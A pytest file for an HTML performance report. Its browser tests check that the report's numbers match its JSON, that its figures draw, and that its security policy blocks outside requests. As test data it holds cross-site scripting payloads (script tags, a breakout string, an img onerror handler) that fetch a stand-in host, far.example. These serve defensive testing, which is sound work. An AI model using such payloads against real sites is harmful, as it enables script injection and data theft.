"""The report in a real browser: it draws, its numbers are those of its JSON, and no request leaves it."""

from __future__ import annotations

import json
from html.parser import HTMLParser

import pytest
from chromium import NEEDED, visit
from explained_made import made, partly

from hopline.show.explain import explained_json
from hopline.show.explain_numbers import numbers
from hopline.show.explain_thinning import thinned
from hopline.show.report import report

pytestmark = NEEDED

STEAL = "fetch('http://far.example/a').catch(() => 0); document.body.dataset.ran = 'yes';"
EVIL = (
    f"<script>{STEAL}</script>",
    f"</script><script>{STEAL}</script>",
    f"<img src='http://far.example/b.png' onerror=\"{STEAL}\">",
    f"'];{STEAL}//",
    "\u202eمرحبا 核函数 & <b>",
    "x" * 10_000,
)
UNITS = {"s": 1.0, "ms": 1e-3, "µs": 1e-6, "ns": 1e-9, "ps": 1e-12}
RATES = {"TB/s": 1e12, "GB/s": 1e9, "MB/s": 1e6, "KB/s": 1e3, "B/s": 1.0}
SIZES = {"B": 1.0, "KiB": 2.0**10, "MiB": 2.0**20, "GiB": 2.0**30}


class Document(HTMLParser):
    """Of the page as drawn: cells with the place of their number, marks and words of each figure, and scripts of data."""

    def __init__(self):
        super().__init__()
        self.cells, self.figures, self.data, self.body = [], {}, {}, {}
        self.figure = self.script = self.key = None
        self.in_text = False

    def handle_starttag(self, tag, attrs):  # noqa: D102
        attrs = dict(attrs)
        if tag == "body":
            self.body = attrs
        if tag in ("section", "details"):
            self.figure = None
        if "data-figure" in attrs:
            self.figure = self.figures[attrs["data-figure"]] = {
                "drawn": attrs.get("data-drawn"),
                "marks": 0,
                "words": [],
            }
        if self.figure and attrs.get("aria-roledescription") in MARKS:
            self.figure["marks"] += 1
        self.in_text = tag == "text"
        if tag == "script":
            self.script = attrs.get("id")
        if tag in ("td", "dd"):
            self.key = attrs.get("data-key")
            self.cells += [[self.key, ""]] if self.key else []
        elif tag == "small":
            self.key = None

    def handle_endtag(self, tag):  # noqa: D102
        if tag in ("td", "dd"):
            self.key = None
        self.in_text, self.script = False, None

    def handle_data(self, data):  # noqa: D102
        if self.script:
            self.data[self.script] = self.data.get(self.script, "") + data
        elif self.in_text and self.figure:
            self.figure["words"].append(data)
        elif self.key:
            self.cells[-1][1] += data


MARKS = ("rect mark", "bar", "circle", "tick", "rule mark")


@pytest.fixture(scope="module")
def explained():
    """Ranks that wait, with names that would run if they could."""
    return made(ranks=4, steps=3, names=EVIL, findings=(EVIL[0], EVIL[1], EVIL[4]))


@pytest.fixture(scope="module")
def visited(explained, tmp_path_factory):
    """The report as a browser drew it."""
    folder = tmp_path_factory.mktemp("chromium")
    page = folder / "report.html"
    page.write_text(report(explained), encoding="utf-8")
    return visit(page, folder / "visit")


@pytest.fixture(scope="module")
def document(visited):
    """The drawn page, read."""
    document = Document()
    document.feed(visited.document)
    return document


def value(data, key):
    """What stands at ``ranks.0.exposed``."""
    for word in key.split("."):
        data = data[int(word) if isinstance(data, list) else word]
    return data


def number(text):
    """A quantity as the page writes it, in SI; None for a text that is none."""
    words = text.removeprefix("≥ ").removeprefix("≤ ").removeprefix("± ").replace(",", "").split()
    try:
        return float(words[0]) * (UNITS | RATES | SIZES | {"x": 1.0})[words[1]] if len(words) > 1 else float(words[0])
    except (ValueError, KeyError, IndexError):
        return None


def test_numbers_on_the_page_are_those_of_its_json(document, explained):
    data = json.loads(document.data["numbers"])
    assert data == json.loads(json.dumps(explained_json(explained)))
    held = 0
    for key, text in document.cells:
        there = value(data, key)
        if isinstance(there, float) or (
            isinstance(there, int) and not isinstance(there, bool) and number(text) is not None
        ):
            assert number(text) == pytest.approx(there, rel=6e-3), (key, text, there)
            held += 1
    assert held > 80
    assert {
        "time",
        "ranks.2.exposed",
        "meetings.0.waiting",
        "groups.0.busbw",
        "parts.transfer",
        "what_ifs.0.saved",
    } <= {key for key, _ in document.cells}


def test_every_figure_is_drawn(document, explained):
    names = ["where", "timeline", "last", "parts", "causes", "what_if", "steps"]
    assert list(document.figures) == names
    assert document.body["data-figures"] == str(len(names))
    assert all(figure["drawn"] == "yes" for figure in document.figures.values())
    found = numbers(explained)
    marks = {name: figure["marks"] for name, figure in document.figures.items()}
    assert marks["timeline"] >= len(thinned(explained).marks)
    assert (marks["last"], marks["parts"], marks["causes"]) == (3, len(found.parts), len(found.causes))
    assert marks["steps"] == 9


def test_words_in_figures_are_the_numbers(document, explained):
    data = json.loads(document.data["numbers"])
    words = [word for word in document.figures["parts"]["words"] if " · " in word]
    assert [number(word.split(" · ")[0]) for word in words] == pytest.approx(list(data["parts"].values()), rel=1e-3)
    changes = [word for word in document.figures["what_if"]["words"] if " · " in word]
    assert [number(word.split(" · ")[0]) for word in changes] == pytest.approx(
        [row["time"] for row in data["what_ifs"]], rel=1e-3
    )
    assert {"rank 0", "rank 3"} <= set(document.figures["timeline"]["words"])


MEASURED = """<script>
const wait = setInterval(() => {
  if (!document.body.dataset.figures) return;
  clearInterval(wait);
  const texts = Array.from(document.querySelectorAll("[data-figure] svg text")).filter(text => text.textContent);
  const edges = texts.map(text => { const box = text.getBoundingClientRect(); return [box.left, box.right, text.textContent]; });
  const thin = Array.from(document.querySelectorAll("tbody td:first-child")).map(cell => cell.clientWidth);
  const legends = Array.from(document.querySelectorAll(".role-legend-label text")).map(text => text.textContent);
  document.body.dataset.measured = JSON.stringify({edges, thin, legends, wide: document.documentElement.clientWidth});
}, 50);
</script>"""


@pytest.mark.parametrize("wide", [600, 1300])
def test_words_fit_whatever_the_width(wide, tmp_path):
    """Measured by a script of ours in a copy of the page without its policy."""
    explained = partly(1, ranks=4, steps=3)
    text = report(explained).replace('http-equiv="Content-Security-Policy"', 'name="none"')
    page = tmp_path / "report.html"
    start, _, end = text.rpartition("</body>")
    page.write_text(f"{start}{MEASURED}</body>{end}", encoding="utf-8")
    drawn = Document()
    drawn.feed(visit(page, tmp_path / "visit", wide).document)
    seen = json.loads(drawn.body["data-measured"])
    assert len(seen["edges"]) > 60
    assert [edge for edge in seen["edges"] if edge[0] < 0 or edge[1] > seen["wide"]] == []
    assert min(seen["thin"]) > 60
    assert "exposed, waiting or transfer" in seen["legends"]
    assert not [label for label in seen["legends"] if label.endswith("…")]


def test_nothing_is_asked_for_and_no_name_runs(visited, document):
    assert visited.asked == ()
    assert "data-ran" not in document.body
    assert visited.console == ()


def test_the_policy_holds_even_where_escaping_would_not(explained, tmp_path):
    """A script and a picture put into the page itself; without the policy both go through, so the check can fail."""
    planted = f"<script>{STEAL}</script><img src='http://far.example/b.png'>"
    text = report(explained).replace("<main>", f"<main>{planted}")
    free = text.replace('http-equiv="Content-Security-Policy"', 'name="none"')
    for name, page, runs in (("held", text, False), ("free", free, True)):
        file = tmp_path / f"{name}.html"
        file.write_text(page, encoding="utf-8")
        seen = visit(file, tmp_path / name)
        drawn = Document()
        drawn.feed(seen.document)
        assert ("data-ran" in drawn.body) is runs
        assert any("far.example" in url for url in seen.asked) is runs


@pytest.mark.parametrize(
    ("kind", "figures"),
    [
        ({"ranks": 1, "steps": 1}, 5),
        ({"ranks": 64, "steps": 2}, 7),
        ({"collectives": False}, 6),
        ({"known": False}, 6),
        ({"gpu": False}, 0),
    ],
)
def test_all_kinds_are_drawn(kind, figures, tmp_path):
    page = tmp_path / "report.html"
    page.write_text(report(made(**kind)), encoding="utf-8")
    seen = visit(page, tmp_path / "visit")
    drawn = Document()
    drawn.feed(seen.document)
    assert drawn.body["data-figures"] == str(figures) == str(len(drawn.figures))
    assert seen.asked == ()
    assert seen.console == ()
